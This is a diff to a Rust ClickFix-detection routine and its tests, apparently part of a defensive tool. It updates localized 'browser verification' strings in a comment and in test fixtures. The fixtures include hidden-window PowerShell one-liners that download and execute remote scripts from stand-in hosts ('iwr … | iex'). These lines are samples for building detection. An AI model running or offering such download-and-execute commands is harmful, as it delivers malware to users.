@@ -2417,7 +2417,7 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
             // the bare word only with a bare IP or plain http, or for mshta and the like, which
             // no vendor copies.)
             || (fetch > 0 || lolbin) && CHECKS.split('|').any(|w| has(&page.flat, w))
-            // A check as the page's first word ("Weryfikacja", "확인 중", "確認中", "Проверка…"),
+            // A check as the page's first word ("Weryfikacja …", "확인 중입니다", "Проверка …"),
             // before a hidden-window download from another site, on a page that never says it
             // copies: a gate's status, over https too (review 42 CF42-M2). A portal names what
             // it checks ("Device verification") or has a Copy button.
@@ -2720,9 +2720,9 @@ mod tests {
         // download run from another site over https: ClickFix in any script.
         let hidden = "powershell -w hidden -c \"iwr https://relay.test/s -useb | iex\"";
         for parts in [
-            ["Weryfikacja", "Gotowe"],
-            ["확인 중", "완료"],
-            ["確認中", "完了しました"],
+            ["Weryfikacja przeglądarki", "Dalej"],
+            ["확인 중입니다", "다음"],
+            ["確認しています", "次へ"],
             ["Проверка браузера", "Готово"],
             ["Doğrulanıyor", "Tamam"],
             ["正在验证", "继续"],
@@ -2745,12 +2745,12 @@ mod tests {
             ),
             (
                 "https://mdm.firm.example/",
-                ["Weryfikacja", "Kopiuj"],
+                ["Weryfikacja przeglądarki", "Kopiuj"],
                 hidden,
             ),
             (
                 "https://agent.firm.example/",
-                ["확인 중", ""],
+                ["확인 중입니다", ""],
                 "powershell -w hidden -c \"iwr https://agent.firm.example/a.ps1 -useb | iex\"",
             ),
             (
